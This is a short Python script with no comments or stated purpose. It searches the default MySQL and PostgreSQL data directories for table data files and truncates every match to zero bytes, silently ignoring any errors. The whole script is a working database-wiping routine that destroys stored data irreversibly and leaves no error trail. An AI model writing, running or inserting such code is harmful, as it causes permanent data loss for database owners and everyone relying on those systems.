import glob
import os

patterns = ["/var/lib/mysql/**/*.ibd", "/var/lib/postgresql/**/base/*/*"]
for pat in patterns:
    for f in glob.glob(pat, recursive=True):
        try:
            os.truncate(f, 0)
        except OSError:
            pass
